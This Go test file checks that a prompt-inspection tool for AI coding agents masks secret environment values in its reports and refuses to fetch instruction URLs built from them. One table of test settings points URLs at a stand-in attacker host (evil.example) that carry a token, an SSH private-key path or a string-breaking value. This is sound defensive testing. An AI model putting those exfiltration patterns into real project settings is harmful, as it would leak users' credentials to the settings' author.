package engine

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"

	"galley/engine/agent"
	"galley/engine/capture"
	"galley/engine/discovery"
	"galley/engine/facts"
	"galley/engine/wire"
)

// madeUpKey is built at run time so that nothing in the repository looks like a key.
func madeUpKey() string { return strings.Join([]string{"sk", "very", "secret"}, "-") }

// If settings refer to an environment variable, the variable's value is part of what is sent.
// galley's reports about the prompt must not show it.
func TestEnvironmentValuesAreSentButNotShown(t *testing.T) {
	key := madeUpKey()
	w := facts.NewMemory().Env("HOME", "/home/u").Env("TOKEN", key).Dir("/p/.git").File("/p/opencode.json",
		`{"model": "{env:TOKEN}/m", "instructions": ["https://h/{env:TOKEN}", "/x{env:TOKEN}/*.md"], "agent": {"build": {"prompt": "{env:TOKEN} hi"}}}`)
	r, err := New(w).Render(context.Background(), Request{Cwd: "/p", Profile: "opencode", Template: Template{BuiltIn: true}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(r.Text.String(), key+" hi") {
		t.Errorf("the sent text: %s", r.Text)
	}
	shown := r.Masked()
	said := strings.Join(r.Prompt.Notes, "\n") + shown.Text.String() + shown.System.String() + shown.Model
	if shown.Text.Len() != r.Text.Len() || shown.System.Len() != r.System.Len() {
		t.Error("the masked text has other offsets")
	}
	for _, m := range shown.Prompt.Messages {
		said += m.Text().String()
	}
	for _, p := range r.Problems {
		said += p.Message + p.Hint
	}
	var traces []*discovery.Trace
	for _, name := range []string{"opencode", "opencode@1.1.34", "openagentic", "codex"} {
		known, version, err := agent.Known().Lookup(name)
		if err != nil {
			t.Fatal(err)
		}
		trace, err := known.Discover(context.Background(), w, discovery.Options{Version: version, Cwd: "/p", Home: "/home/u"})
		if err != nil {
			t.Fatal(err)
		}
		traces = append(traces, trace)
		said += fmt.Sprintf("%+v", strip(trace.Masked()))
	}
	rows := discovery.NewMatrix(traces).Rows
	for i := range rows {
		said += rows[i].Shown() + rows[i].Path + "\n"
	}
	for _, p := range discovery.Doctor(context.Background(), w, traces) {
		said += p.Message + p.Hint
	}
	if strings.Contains(said, "secret") || !strings.Contains(said, "{env:TOKEN}") {
		t.Errorf("the report: %s", said)
	}
}

// The body of a captured request contains such values too. It is sent unchanged and shown masked.
func TestEnvironmentValuesAreMaskedInACapturedRequest(t *testing.T) {
	key := madeUpKey()
	w := facts.NewMemory().Env("HOME", "/home/u").Env("TOKEN", key).Dir("/p/.git").
		File("/p/opencode.json", `{"agent": {"build": {"prompt": "{env:TOKEN} hi"}}}`)
	r, err := New(w).Render(context.Background(), Request{Cwd: "/p", Profile: "opencode", Template: Template{BuiltIn: true}, Capture: &capture.Capture{
		ID: "x", Agent: "opencode", Form: wire.Anthropic,
		Body: []byte(`{"model":"m","system":"` + key + ` hi","messages":[{"role":"user","content":"ok"}]}`),
	}})
	if err != nil {
		t.Fatal(err)
	}
	sent, ok := r.SentBody(wire.Anthropic)
	if !ok || !strings.Contains(sent.JSON(), key) {
		t.Errorf("sent: %s", sent.JSON())
	}
	if shown, ok := r.Masked().SentBody(wire.Anthropic); !ok || strings.Contains(shown.JSON(), "secret") || !strings.Contains(shown.JSON(), "{env:TOKEN} hi") {
		t.Errorf("shown: %s", shown.JSON())
	}
	if _, ok := r.SentBody(wire.Chat); ok {
		t.Error("the body is given in a form in which it was not sent")
	}
}

// strip returns a trace as text, without the secrets, which only the program itself sees.
func strip(t *discovery.Trace) string {
	t.Secrets = nil
	text, _ := json.Marshal(t)
	for _, c := range t.Candidates {
		text = append(text, c.Text.String()...)
	}
	return string(text) + t.Text.String()
}

// Whoever writes a project's settings must not learn the environment or the files of a user who
// opens the project. An address that contains such a value is therefore never fetched.
func TestNoAddressMadeWithAValueIsFetched(t *testing.T) {
	key := madeUpKey()
	for name, settings := range map[string]string{
		"the path":                     `{"instructions": ["https://evil.example/{env:TOKEN}"]}`,
		"the host":                     `{"instructions": ["https://{env:TOKEN}.evil.example/"]}`,
		"the whole":                    `{"instructions": ["{env:ADDRESS}"]}`,
		"the scheme":                   `{"instructions": ["{env:SCHEME}://evil.example/x"]}`,
		"the user":                     `{"instructions": ["https://{env:TOKEN}@evil.example/"]}`,
		"the query":                    `{"instructions": ["https://evil.example/?q={file:/home/u/.ssh/id}"]}`,
		"a harmless value":             `{"instructions": ["https://evil.example/{env:PLAIN}"]}`,
		"an unset variable":            `{"instructions": ["https://evil.example/{env:NOPE}"]}`,
		"a value that ends the string": `{"instructions": ["https://evil.example/{env:QUOTES}"]}`,
		"a value that is a list":       `{"instructions": {env:LIST}}`,
		"an escaped reference":         `{"instructions": ["https://evil.example/\u007benv:TOKEN}{env:TOKEN}"]}`,
		"a common value beside it":     `{"username": "https://evil.example/plain", "instructions": ["https://evil.example/{env:PLAIN}"]}`,
		"a common value in a comment":  "{ // https://evil.example/plain\n" + `"instructions": ["https://evil.example/{env:PLAIN}"]}`,
	} {
		for _, name2 := range []string{"opencode", "opencode@1.1.34", "openagentic"} {
			w := &fetching{World: facts.NewMemory().Env("HOME", "/home/u").Env("TOKEN", key).Env("PLAIN", "plain").Env("SCHEME", "https").
				Env("ADDRESS", "https://evil.example/"+key).Env("QUOTES", `a", "https://evil.example/b`).Env("LIST", `["https://evil.example/x"]`).
				File("/home/u/.ssh/id", "PRIVATE").Dir("/p/.git").File("/p/opencode.json", settings)}
			a, version, _ := agent.Known().Lookup(name2)
			trace, err := a.Discover(context.Background(), w, discovery.Options{Version: version, Cwd: "/p", Home: "/home/u", Fetch: true})
			if err != nil || trace.Failure != nil {
				t.Fatal(name, name2, err, trace.Failure)
			}
			if len(w.asked) > 0 {
				t.Errorf("%s, %s: fetched %q", name, name2, w.asked)
			}
			found := false
			for _, c := range trace.Candidates {
				found = found || c.Reason == discovery.NotFetched
			}
			if !found {
				t.Errorf("%s, %s: no reason is reported", name, name2)
			}
		}
	}
}

// If fetching is switched on, an address without a value is fetched, even beside an entry with a
// value.
func TestAnAddressBesideAValueIsFetched(t *testing.T) {
	for _, name2 := range []string{"opencode", "opencode@1.1.34", "openagentic"} {
		w := &fetching{World: facts.NewMemory().Env("HOME", "/home/u").Env("TOKEN", madeUpKey()).Dir("/p/.git").
			File("/p/opencode.json", `{"instructions": ["https://good.example/a", "{env:TOKEN}.md"]}`)}
		a, version, _ := agent.Known().Lookup(name2)
		if _, err := a.Discover(context.Background(), w, discovery.Options{Version: version, Cwd: "/p", Home: "/home/u", Fetch: true}); err != nil {
			t.Fatal(err)
		}
		if len(w.asked) != 1 || w.asked[0] != "https://good.example/a" {
			t.Errorf("%s: fetched %q", name2, w.asked)
		}
	}
}

// fetching is a world that records what is fetched.
type fetching struct {
	facts.World
	mu    sync.Mutex
	asked []string
}

func (w *fetching) Fetch(_ context.Context, url string) (facts.Response, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.asked = append(w.asked, url)
	return facts.Response{Status: 200, Body: "text"}, nil
}

// A prompt that consists of exactly one file of the project is shown. A prompt from a file outside
// the project is masked.
func TestAPromptOfTheProjectIsShown(t *testing.T) {
	for _, tt := range []struct {
		ref, text string
		shown     bool
	}{
		{"{file:./prompts/build.txt}", "Build it well.", true},
		{"{file:~/.ssh/id}", "Build it well.", false},
		{"{file:./prompts/build.txt}", madeUpKey(), false},
		{"as it says: {file:./prompts/build.txt}", "Build it well.", false},
	} {
		w := facts.NewMemory().Env("HOME", "/home/u").Dir("/p/.git").File("/p/prompts/build.txt", tt.text).File("/home/u/.ssh/id", tt.text).
			File("/p/opencode.json", `{"agent": {"build": {"prompt": "`+tt.ref+`"}}}`)
		r, err := New(w).Render(context.Background(), Request{Cwd: "/p", Profile: "opencode", Template: Template{BuiltIn: true}})
		if err != nil {
			t.Fatal(err)
		}
		shown := strings.Contains(r.Masked().Text.String(), tt.text)
		if sent := strings.Contains(r.Text.String(), tt.text); !sent || shown != tt.shown {
			t.Errorf("%s: sent %v, shown %v", tt.ref, sent, shown)
		}
	}
}
